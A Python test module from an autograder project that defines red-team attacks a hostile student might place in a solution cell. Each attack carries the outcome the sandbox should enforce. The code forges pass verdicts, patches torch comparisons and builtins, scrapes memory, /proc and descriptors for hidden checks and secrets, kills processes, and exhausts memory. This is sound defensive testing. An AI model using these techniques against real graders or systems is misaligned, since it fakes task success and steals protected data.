"""Attacks on the grader, written as a hostile student would, for the sample class and the red-team tests.

Each attack is code placed at the top of a solution cell, so that it runs
wherever the grader runs the student's solution: in the student's kernel and,
guarded by ``__name__ == "student_solution"``, in the process that runs the
solution for the hidden checks (the *host*).  They go after what an in-process
check would hold -- the channel that carries the verdict, the comparison
functions, the hidden check's source, the expected values, the instructor's
files, the checker's process -- and each says in its report what it found.
The sample class (:mod:`autograder.sample`) grades them on top of a known
solution and states what each must get: never more than that solution.
"""

from __future__ import annotations

__all__ = ["ATTACKS", "Attack"]

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """Code for the top of a solution cell; ``base``: the solution it is put on (``stub``, ``reference``,
    or a fixture's name); ``why``: what it tries and what must happen."""

    name: str
    why: str
    base: str
    code: str
    # where hosts share the check run's PID namespace (GPU workers: CUDA starts in no other there), what a
    # kill of everything in reach does instead: (why, outcome), every cell 0 (seen on an H200, 2026-11-27)
    shared_pid: tuple[str, str] | None = None


# The report an attack leaves where the student can read it: the message of an exception raised in the
# host (the check's failure message carries it to the feedback), or a line printed in the kernel.
_REPORT = '''
def _report(tag, found):
    # As much as fits in an exception message the grader passes on (it keeps 2000 characters).
    import base64, json, zlib
    found = [str(f)[:300] for f in found]
    while True:
        blob = base64.b64encode(zlib.compress(json.dumps(found).encode())).decode()
        if len(blob) < 1800 or not found:
            return f"{tag}[{len(found)}]:{blob}"
        found = found[:-1]
'''

_FIND = '''
def _course_files():
    # Another copy of the course anywhere on the machine (a clone, a home folder, a shared folder): its
    # solutions, gradebooks, keys and logs, down to four folders deep under every usual place.
    import glob, os
    found = []
    roots = ["/home", "/root", "/srv", "/opt", "/mnt", "/media", "/var", "/data", "/work", "/tmp", "/usr/local/src",
             os.path.expanduser("~")]
    here = os.getcwd()          # and every folder above this one: a clone beside this one, wherever it is
    while os.path.dirname(here) != here:
        roots.append(here)
        here = os.path.dirname(here)
    names = ("solutions/*/*.ipynb", "source/*/*.ipynb", "gradebook.db", ".autograder-key", "checks.log")
    for root in roots:
        for depth in range(4):
            for name in names:
                for path in glob.glob(os.path.join(root, *["*"] * depth, name))[:50]:
                    try:
                        with open(path, "rb") as f:
                            if f.read(100):
                                found.append(path)
                    except OSError:
                        pass
    return sorted(set(found))
'''

FORGE_VERDICT = '''
if __name__ == "student_solution":
    # Forge the verdict: find every socket and pipe of this process (the check's result channel, if it
    # were here) and write "passed" on it in every format a check could use, then leave.
    import gc, json, os, socket, struct
    fds = set()
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            fds.add(obj.fileno())
    fds.update(int(n) for n in os.listdir("/proc/self/fd") if n.isdigit())
    messages = [json.dumps({"status": "ok", "result": None}).encode(),
                json.dumps({"op": "done", "ok": True}).encode(),
                json.dumps({"op": "done", "ok": None}).encode()]
    for fd in sorted(fds):
        for text in messages:
            try:
                os.write(fd, struct.pack("<II", len(text), 0) + text)
                os.write(fd, text + b"\\n")
            except OSError:
                pass
    os._exit(0)
'''

PATCH_COMPARISONS = '''
import torch
# Everything a check compares with, made to agree: in this process and in torch itself.
torch.equal = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
'''

PATCH_HARNESS = '''
if __name__ == "student_solution":
    # Rewrite the harness of this process: every answer says "done", errors are swallowed, the json
    # module lies, builtins agree with everything.
    import builtins, json, sys
    host = sys.modules.get("dlperf.grading.host")
    if host is not None:
        host.Host.raised = lambda self, exc: self.chan.send({"op": "done", "ok": True})
        host.Host.call = lambda self, header, buffers: self.chan.send({"op": "done", "ok": True})
    json.dumps = lambda *args, **kwargs: '{"op": "done", "ok": true, "status": "ok"}'
    builtins.isinstance = lambda *args: True
'''

EXFILTRATE = _REPORT + _FIND + '''
if __name__ == "student_solution":
    # Look for the hidden checks and the expected values wherever this process can reach: its own
    # memory (every string, every frame, every module, the line cache), every other process's /proc
    # entries, every inherited descriptor, and the files of the course.
    import gc, glob, linecache, os, sys
    markers = ("BEGIN HIDDEN TESTS", "CheckFailed(", "expect_same", "difference(", "autograder.trusted",
               "from autograder", "secret", "budget")
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, str) and any(m in obj for m in markers) and obj not in found:
            found.append(obj[:3000])
    for frame in sys._current_frames().values():
        while frame is not None:
            found += [f"frame {frame.f_code.co_filename}:{frame.f_code.co_name}"
                      for _ in [0] if "trusted" in frame.f_code.co_filename or "checks" in frame.f_code.co_filename]
            frame = frame.f_back
    for name in list(linecache.cache):
        if "test" in name or "hidden" in name or "check" in name:
            found.append("linecache " + name)
    for name, module in list(sys.modules.items()):
        if name.startswith(("autograder.exercises", "autograder.checks", "__main__")):
            found.append("module " + name)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for what in ("environ", "mem", "fd/0", "cwd/checks.log"):
                try:
                    with open(f"/proc/{pid}/{what}", "rb") as f:
                        data = f.read(2000)
                    found.append(f"/proc/{pid}/{what}: {data[:200]!r}")
                except OSError:
                    pass
    for fd in range(0, 256):
        try:
            data = os.pread(fd, 2000, 0)
            if data:
                found.append(f"fd {fd}: {data[:200]!r}")
        except OSError:
            pass
    for path in _course_files():
        found.append(path)
    raise RuntimeError(_report("EXFIL", found))
'''

READ_FILES = _REPORT + _FIND + '''
_files = _course_files()
if __name__ == "student_solution":
    if _files:
        raise RuntimeError(_report("FILES", _files))
else:
    print(_report("FILES", _files))
'''

KILL_EVERYTHING = '''
if __name__ == "student_solution":
    # Kill every process this one can signal (the checker, if it could be reached), then the parent.
    import os, signal
    for target in (-1, os.getppid(), 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
'''

LATE_WRITER = '''
if __name__ == "student_solution":
    # A child that outlives the answer and writes forged answers into the channel later; an exit
    # handler that writes another one; half a frame written before the process leaves.
    import atexit, json, os, struct, time
    forged = json.dumps({"op": "done", "ok": True}).encode()
    frame = struct.pack("<II", len(forged), 0) + forged
    fds = [int(n) for n in os.listdir("/proc/self/fd") if n.isdigit() and int(n) > 2]
    if os.fork() == 0:
        time.sleep(0.3)
        for _ in range(50):
            for fd in fds:
                try:
                    os.write(fd, frame)
                except OSError:
                    pass
            time.sleep(0.05)
        os._exit(0)
    atexit.register(lambda: [os.write(fd, frame) for fd in fds])
'''

PARTIAL_FRAME = '''
if __name__ == "student_solution":
    # Half an answer on every descriptor (a length that promises more than follows), then leave.
    import os, struct
    for n in os.listdir("/proc/self/fd"):
        if n.isdigit() and int(n) > 2:
            try:
                os.write(int(n), struct.pack("<II", 1000, 0) + b'{"op": "done", "ok"')
            except OSError:
                pass
    os._exit(0)
'''

RACE = '''
if __name__ == "student_solution":
    # A thread that keeps writing "done" answers while the real code runs, hoping one is read first.
    import json, os, struct, threading
    forged = json.dumps({"op": "done", "ok": None}).encode()
    frame = struct.pack("<II", len(forged), 0) + forged
    def _race():
        fds = [int(n) for n in os.listdir("/proc/self/fd") if n.isdigit() and int(n) > 2]
        for _ in range(2000):
            for fd in fds:
                try:
                    os.write(fd, frame)
                except OSError:
                    pass
    threading.Thread(target=_race, daemon=True).start()
'''

RESIZE_SHARED = '''
if __name__ == "student_solution":
    # Shrink every map of the checker's memory this process was given (mmap.resize truncates the shared
    # file): unsealed, the checker's next read of it would die of SIGBUS and take the class's worker with it.
    import gc, mmap, threading, time
    def _shrink():
        for _ in range(400):
            for obj in gc.get_objects():
                if isinstance(obj, mmap.mmap):
                    try:
                        obj.resize(1)
                    except Exception:
                        pass
            time.sleep(0.01)
    threading.Thread(target=_shrink, daemon=True).start()
'''

HUGE_ANSWER = '''
if __name__ == "student_solution":
    # Answer every request with the largest protocol-valid frame there is: a header of millions of tiny
    # lists, which the checker's JSON parser turns into gigabytes of Python objects unless it is bounded.
    import sys
    from dlperf.grading import wire
    _inner = "[" + ",".join(["[]"] * 1000) + "]"
    _bomb = "[" + ",".join([_inner] * ((wire.MAX_HEADER - 64) // (len(_inner) + 1))) + "]"   # just fits
    _send = wire.Channel.send
    def _huge(self, header, buffers=(), fds=()):
        if isinstance(header, dict) and header.get("op") in ("done", "raised"):
            import json, struct
            text = ('{"op": "done", "ok": ' + _bomb + '}').encode()
            self.sock.sendall(struct.pack("<II", len(text), 0))
            self.sock.sendall(text)
            return
        return _send(self, header, buffers, fds)
    wire.Channel.send = _huge
'''

HOG_MEMORY = '''
if __name__ == "student_solution":
    # Fill the sandbox's memory from the process that runs the solution for the checks, hoping that the
    # out-of-memory killer takes the checker (which would lose every later cell of the submission).
    _hog = []
    try:
        while True:
            _hog.append(bytearray(64 * 2**20))
            _hog[-1][::4096] = b"x" * len(_hog[-1][::4096])
    except MemoryError:
        pass
'''

ATTACKS = [
    Attack("forge-verdict", "the untouched stub, plus code that writes 'passed' on every socket and pipe of the "
           "process that runs it for the checks, in every format, then exits: the checks hold no channel whose "
           "message is the verdict, so the stub's 0", "stub", FORGE_VERDICT),
    Attack("patch-compare", "a wrong solution (never skips a step) that first replaces torch.equal, torch.allclose, "
           "torch.isclose and Tensor.__eq__: the checks compare in their own process, so exactly the wrong "
           "solution's score", "never_skips", PATCH_COMPARISONS),
    Attack("patch-harness", "the stub, plus code that rewrites the harness of its process (every answer 'done', "
           "errors swallowed, json and isinstance lying): answers are only data the checks verify, so 0",
           "stub", PATCH_HARNESS),
    Attack("exfiltrate", "the stub, plus code that searches its memory, frames, modules, line cache, every "
           "/proc entry, every descriptor and the disk for the hidden checks and raises what it found (zlib + "
           "base64, so no line-based redaction catches it): nothing of a check is there to find, so 0 and "
           "nothing secret in the feedback", "stub", EXFILTRATE),
    Attack("read-files", "the reference solution, plus code that looks for another copy of the course anywhere "
           "on the machine (solutions, gradebooks, keys) from the kernel and from the checks' process: the "
           "sandboxes see an allowlist only, so nothing is found and the solution's 10", "reference", READ_FILES),
    Attack("kill-all", "the reference solution, plus code that SIGKILLs every process it can reach (kill(-1), "
           "its parent, its group) from the checks' process: it can reach only its own namespace, so it kills "
           "itself: every check fails (0), the checker is untouched (graded, not crashed)", "reference",
           KILL_EVERYTHING, shared_pid=("where hosts share the check run's PID namespace (a GPU worker): it "
                                        "kills its own check run, crashed, 0", "crashed")),
    Attack("late-writer", "the stub, plus a forked child that writes forged answers into the channel after the "
           "real ones, an exit handler that does the same: 0", "stub", LATE_WRITER),
    Attack("race", "the stub, plus a thread that floods the channel with 'done' answers while the code runs: "
           "the checks read garbage or the real answer, never a pass: 0", "stub", RACE),
    Attack("partial-frame", "the stub, plus half an answer written on every descriptor before the process "
           "leaves: the check sees a process that died mid-answer: 0", "stub", PARTIAL_FRAME),
    Attack("resize-shared", "the reference solution, plus a thread that shrinks every map of the checker's "
           "memory it was handed (mmap.resize): the memory is sealed, the resize is refused, the checker reads "
           "on: the solution's 10 (unsealed, the check run died of SIGBUS and the class's worker waited out "
           "the submission's limit, every cell 'did not run')", "reference", RESIZE_SHARED),
    Attack("huge-answer", "the stub, plus every answer replaced by the largest protocol-valid frame (a header "
           "of millions of tiny lists): frames are bounded before they are read, the checker refuses it "
           "and carries on: 0, graded, not crashed", "stub", HUGE_ANSWER),
    Attack("hog-memory", "the stub, plus the process that runs it for the checks filling the sandbox's "
           "memory: that process is the out-of-memory killer's first choice, so it dies, not the checker: "
           "0, graded, not crashed", "stub", HOG_MEMORY),
]
